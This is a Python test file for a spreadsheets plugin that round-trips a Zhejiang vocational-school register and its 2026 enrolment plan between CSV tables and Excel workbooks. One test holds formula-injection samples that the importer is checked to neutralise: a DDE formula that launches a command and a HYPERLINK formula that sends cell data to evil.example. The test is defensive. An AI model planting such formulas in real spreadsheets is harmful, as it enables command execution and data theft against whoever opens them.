"""A workbook comes back: what is right changes the tables, what is wrong changes nothing."""

from __future__ import annotations

import datetime as dt
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from plugins.catalogue import load
from plugins.spreadsheets.__main__ import main
from tests.unit.spreadsheets.office import TODAY, Edit, Office, digest, put

PROJECT = Path(__file__).resolve().parents[3]
REGISTER, PLAN = "名册", "计划2026"


def new_school(book: Workbook, **more: object) -> None:
    cells = {
        "name": "演示宁波第一技师学院", "city_code": "330200 宁波市", "status": "在办",
        "verified": "是", "source_document": "演示文件（演示数据）", **more,
    }  # fmt: skip
    put(book[REGISTER], 6, **cells)


def test_every_real_province_goes_out_and_comes_back_byte_for_byte(
    real_content: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = digest(real_content)
    reported = {path.split("/")[1] for path in before}
    assert len(reported) == 14
    for province in sorted({*reported, "beijing"}):
        target = tmp_path / f"{province}.xlsx"
        arguments = ["--content", str(real_content)]
        assert main(["export", province, "--to", str(target), *arguments]) == 0
        assert main(["import", str(target), *arguments]) == 0
        assert "没有变动" in capsys.readouterr().out
    assert digest(real_content) == before


def test_one_changed_cell_changes_one_line(office: Office) -> None:
    before = office.lines("plans/2026.csv")
    code, said = office.submit(lambda book: put(book[PLAN], 4, seats=60))
    assert code == 0
    assert "改动 1 行" in said
    after = office.lines("plans/2026.csv")
    assert [line for line in after if line not in before] == [before[2].replace(",45,", ",60,")]
    assert len(after) == len(before)


def test_rows_that_were_sorted_in_the_sheet_keep_their_order_in_the_table(office: Office) -> None:
    before = digest(office.content)

    def turn_over(book: Workbook) -> None:
        sheet = book[PLAN]
        rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=3, max_row=5)]
        for number, values in enumerate(reversed(rows), start=3):
            for column, value in enumerate(values, start=1):
                sheet.cell(number, column).value = value

    assert office.submit(turn_over)[0] == 0
    assert digest(office.content) == before


def test_a_new_school_gets_an_id_and_its_plan_finds_it_by_name(office: Office) -> None:
    def edit(book: Workbook) -> None:
        new_school(book)
        put(
            book[PLAN], 6, school_name="演示宁波第一技师学院", major="数控加工",
            training_level="中级工", entry="初中", duration_years=3, seats=30,
            source_document="演示计划（演示数据）",
        )  # fmt: skip

    code, said = office.submit(edit)
    assert code == 0, said
    assert "新增 1 所" in said
    assert office.lines()[-1].startswith("yanshi-ningbo-diyi-jishi-xueyuan,演示宁波第一技师学院,")
    assert office.lines("plans/2026.csv")[-1].startswith("yanshi-ningbo-diyi-jishi-xueyuan,")
    assert [p for p in load(office.content, TODAY)[1] if p.severity == "error"] == []


def test_a_renamed_school_keeps_its_id_and_its_former_name(office: Office) -> None:
    code, said = office.submit(lambda book: put(book[REGISTER], 4, name="演示新第二技工学校"))
    assert code == 0, said
    school = load(office.content, TODAY)[0].school_by_id["yanshi-dier-jigong-xuexiao"]
    assert (school.name, school.former_names) == ("演示新第二技工学校", ("演示第二技工学校",))


@pytest.mark.parametrize("closing", ["停办", "closed", "已并入:演示技师学院", None])
def test_a_school_is_closed_only_when_somebody_says_yes(
    office: Office, closing: str | None
) -> None:
    def edit(book: Workbook) -> None:
        if closing is None:
            book[REGISTER].delete_rows(4)
        else:
            put(book[REGISTER], 4, status=closing)

    before = digest(office.content)
    file = office.edited(edit)
    code, said = office.take_in(file)
    assert code == 1
    assert "演示第二技工学校（yanshi-dier-jigong-xuexiao）" in said
    assert "--yes" in said
    assert digest(office.content) == before
    assert office.take_in(file, "--yes")[0] == 0
    status = load(office.content, TODAY)[0].school_by_id["yanshi-dier-jigong-xuexiao"].status
    expected = "merged:yanshi-jishi-xueyuan" if "并入" in (closing or "") else "closed"
    assert status == expected


def test_another_provinces_school_is_refused(office: Office) -> None:
    before = digest(office.content)

    def edit(book: Workbook) -> None:
        new_school(book, school_id="yanshi-beijing-jishi-xueyuan")

    code, said = office.submit(edit)
    assert code == 1
    assert "名册!A6: 错误" in said
    assert "sheet-other-province" in said
    assert digest(office.content) == before


def test_a_workbook_of_one_province_is_not_taken_for_another(office: Office) -> None:
    code, said = office.take_in(office.export(), "--province", "beijing")
    assert code == 1
    assert "这是浙江省的表" in said


WRONG: list[tuple[str, Edit, str, str]] = [
    ("level", lambda b: put(b[REGISTER], 3, level="技师学园"), "名册!C3", "not-in-list-level"),
    ("city", lambda b: put(b[REGISTER], 3, city_code="110000"), "名册!E3", "city-outside-province"),
    (
        "city name", lambda b: put(b[REGISTER], 3, city_code="330200 杭州市"),
        "名册!E3", "sheet-place-mismatch",
    ),
    ("no source", lambda b: put(b[REGISTER], 3, source_document=None), "名册!S3", "missing-source"),
    ("http", lambda b: put(b[REGISTER], 3, website="http://a.example.com"), "名册!J3", "not-https"),
    (
        "formula", lambda b: put(b[PLAN], 3, seats="=40+2"),
        "计划2026!I3", "sheet-formula",
    ),
    ("error value", lambda b: put(b[PLAN], 3, seats="#REF!"), "计划2026!I3", "sheet-error-value"),
    ("phone", lambda b: put(b[REGISTER], 3, phone=57110000001), "名册!I3", "sheet-number-for-text"),
    (
        "date for text", lambda b: put(b[PLAN], 3, direction=dt.datetime(2026, 3, 2)),
        "计划2026!D3", "sheet-unwanted-date",
    ),
    ("seats", lambda b: put(b[PLAN], 3, seats="40人"), "计划2026!I3", "not-a-number-seats"),
    (
        "unknown school", lambda b: put(b[PLAN], 3, school_id="no-such-school", school_name=None),
        "计划2026!A3", "plan-unknown-school",
    ),
    (
        "wrong name", lambda b: put(b[PLAN], 3, school_name="演示第二技工学校"),
        "计划2026!B3", "sheet-name-mismatch",
    ),
    ("merged", lambda b: b[PLAN].merge_cells("C3:C4"), "计划2026!C3", "sheet-merged-cells"),
    (
        "hidden row", lambda b: setattr(b[PLAN].row_dimensions[4], "hidden", True),
        "计划2026!A4", "sheet-hidden-rows",
    ),
    (
        "hidden column", lambda b: setattr(b[PLAN].column_dimensions["I"], "hidden", True),
        "计划2026!I2", "sheet-hidden-columns",
    ),
    (
        "hidden sheet", lambda b: setattr(b[PLAN], "sheet_state", "hidden"),
        "计划2026", "sheet-hidden",
    ),
    ("header", lambda b: b[PLAN].cell(2, 9, "seat"), "计划2026!I2", "sheet-unknown-column"),
    ("no header", lambda b: b[PLAN].delete_rows(2), "计划2026", "sheet-no-header"),
    (
        "twice", lambda b: put(b[REGISTER], 4, school_id="yanshi-jishi-xueyuan"),
        "名册!A4", "sheet-duplicate-id",
    ),
    ("all gone", lambda b: b[PLAN].delete_rows(3, 9), "计划2026", "sheet-empty-plan"),
    ("sheet name", lambda b: setattr(b[PLAN], "title", "计划 26"), "计划 26", "sheet-unknown"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("edit", "place", "code"), [w[1:] for w in WRONG], ids=[w[0] for w in WRONG]
)
def test_a_fault_is_told_by_cell_and_written_into_a_copy(
    office: Office, edit: Edit, place: str, code: str
) -> None:
    before = digest(office.content)
    file = office.edited(edit)
    status, said = office.take_in(file)
    assert status == 1
    told = next(line for line in said.splitlines() if line.startswith(f"{place}: 错误"))
    follows = said.splitlines()[said.splitlines().index(told) + 1]
    assert "怎样改：" in follows
    assert code in follows
    assert digest(office.content) == before
    copy = load_workbook(file.with_name(f"{file.stem}-有问题.xlsx"))
    sheet, _, cell = place.partition("!")
    comment = copy[sheet][cell or "A2"].comment
    assert comment is not None
    assert "怎样改" in comment.text


def test_a_spoilt_column_of_names_is_one_fault_and_merges_no_school(office: Office) -> None:
    status, said = office.submit(lambda book: book["名册"].cell(2, 2, "随便"))
    assert status == 1
    assert [line for line in said.splitlines() if "错误 " in line] == [
        "名册!B2: 错误 不认识的列名“随便”"
    ]


def test_the_copy_with_comments_can_be_mended_and_taken_in(office: Office) -> None:
    file = office.edited(lambda book: put(book[PLAN], 3, seats="四十"))
    office.take_in(file)
    copy = file.with_name(f"{file.stem}-有问题.xlsx")
    book = load_workbook(copy)
    put(book[PLAN], 3, seats=41)
    book.save(copy)
    code, said = office.take_in(copy)
    assert code == 0, said
    assert ",41," in office.lines("plans/2026.csv")[1]


@pytest.mark.parametrize(
    ("formula", "kept"),
    [
        ("=cmd|'/c calc'!A1", False),
        ('=HYPERLINK("https://evil.example/"&A1)', False),
        ("=[other.xlsx]Sheet1!A1", False),
        ("=A1&B1", True),
    ],
)
def test_a_formula_that_reaches_out_is_text_in_the_copy(
    office: Office, formula: str, kept: bool
) -> None:
    file = office.edited(lambda book: put(book[PLAN], 3, direction=formula))
    assert office.take_in(file)[0] == 1
    copy = load_workbook(file.with_name(f"{file.stem}-有问题.xlsx"))
    cells = [cell for row in copy[PLAN].iter_rows() for cell in row if cell.value == formula]
    assert [(cell.data_type == "f", bool(cell.quotePrefix)) for cell in cells] == [(kept, not kept)]


READ_AS: list[tuple[str, object, str]] = [
    ("seats", "４１", ",41,"),
    ("seats", " 41 ", ",41,"),
    ("seats", 41.0, ",41,"),
    ("seats", "1,041", ",1041,"),
    ("open_to", dt.datetime(2026, 9, 1), ",2026-09-01,"),
    ("open_to", "２０２６年9月1日", ",2026-09-01,"),
    ("open_to", "2026/9/1", ",2026-09-01,"),
    ("open_to", "2026.09.01", ",2026-09-01,"),
    ("open_to", 46266, ",2026-09-01,"),
    ("open_to", 20260901, ",2026-09-01,"),
    ("direction", "车工 \u3000", ",车工,"),
    ("duration_years", 2.5, ",2.5,"),
]


@pytest.mark.parametrize(("name", "value", "stored"), READ_AS)
def test_what_spreadsheets_do_to_text_is_undone(
    office: Office, name: str, value: object, stored: str
) -> None:
    code, said = office.submit(lambda book: put(book[PLAN], 3, **{name: value}))
    assert code == 0, said
    assert stored in office.lines("plans/2026.csv")[1]


def test_text_that_looks_like_a_formula_stays_text(office: Office) -> None:
    lines = office.lines("plans/2026.csv")
    lines[1] = lines[1].replace("数控车工,,", "数控车工,=1+1,")
    (office.content / "registry/zhejiang/plans/2026.csv").write_text("\n".join(lines) + "\n")
    before = digest(office.content)
    file = office.export()
    cell = load_workbook(file)[PLAN]["D3"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
    assert office.take_in(file)[0] == 0
    assert digest(office.content) == before


def test_a_column_that_the_sheet_lacks_is_not_emptied(office: Office) -> None:
    before = digest(office.content)
    assert office.submit(lambda book: book[PLAN].delete_cols(9))[0] == 0
    assert digest(office.content) == before


def test_a_workbook_made_before_the_last_change_says_so(office: Office) -> None:
    file = office.edited(lambda book: put(book[PLAN], 4, seats=60))
    assert office.submit(lambda book: put(book[PLAN], 3, seats=70))[0] == 0
    code, said = office.take_in(file)
    assert code == 0
    assert "又改过" in said


def test_a_part_of_the_register_does_not_close_the_rest(
    real_content: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "part.xlsx"
    main(["export", "zhejiang", "--to", str(file), "--content", str(real_content)])
    book = load_workbook(file)
    book[REGISTER].delete_rows(20, 200)
    book.save(file)
    assert main(["import", str(file), "--content", str(real_content), "--yes"]) == 1
    assert "像是只有一部分" in capsys.readouterr().err


def test_an_import_that_is_killed_leaves_the_old_tables_or_the_new_ones(office: Office) -> None:
    before = digest(office.content)
    program = (
        "import sys, json; from pathlib import Path;"
        "from plugins.spreadsheets.replace_folder import locked, replace_in_folder;"
        "content = Path(sys.argv[1]); print('ready', flush=True); count = 0\n"
        "while True:\n"
        "    with locked(content):\n"
        "        text = f'{count}\\n' * 20000; count += 1\n"
        "        replace_in_folder(content, content / 'registry/zhejiang',"
        " {'schools.csv': text, 'plans/2026.csv': text})\n"
    )
    for pause in (0.01, 0.02, 0.03, 0.05, 0.08):
        process = subprocess.Popen(
            [sys.executable, "-c", program, str(office.content)],
            cwd=PROJECT, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        time.sleep(pause)
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        process.stdout.close()
        register = (office.content / "registry/zhejiang/schools.csv").read_text()
        plan = (office.content / "registry/zhejiang/plans/2026.csv").read_text()
        after = digest(office.content)
        assert register == plan or after == before
        assert set(after) == set(before)


def test_the_commands_are_those_of_the_project(small: Path, tmp_path: Path) -> None:
    def invoke(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "invoke", *arguments, "--content", str(small)]
        return subprocess.run(command, cwd=PROJECT, capture_output=True, text=True, check=False)

    out = invoke("export-template", "浙江", "--to", str(tmp_path))
    file = Path(out.stdout.strip())
    assert (out.returncode, file.parent) == (0, tmp_path)
    back = invoke("import-report", str(file))
    assert (back.returncode, "没有变动" in back.stdout) == (0, True)
    unknown = invoke("export-template", "zhejang")
    assert (unknown.returncode, "zhejiang" in unknown.stderr) == (1, True)
    assert json.dumps(unknown.stdout) == '""'
